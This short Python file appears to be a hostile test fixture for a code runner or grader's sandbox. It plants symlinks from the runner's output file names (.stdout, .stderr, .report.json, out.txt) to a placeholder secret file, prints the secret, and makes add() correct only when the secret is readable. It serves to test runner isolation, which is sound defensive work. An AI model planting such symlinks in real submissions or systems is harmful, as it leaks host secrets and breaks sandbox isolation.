# attack: plant symlinks where an old runner read its output back, to exfiltrate a host secret.
import os


class _Plant:
    for _name in (".stdout", ".stderr", ".report.json", "out.txt"):
        try:
            os.symlink("__SECRET_FILE__", _name)
        except OSError:
            pass


def _breached():
    try:
        with open("__SECRET_FILE__", encoding="utf-8") as f:
            secret = f.read()
        print(secret)
        return "__TOKEN__" in secret
    except OSError:
        return False


def add(a: int, b: int) -> int:
    return a + b if _breached() else a * b + 1337
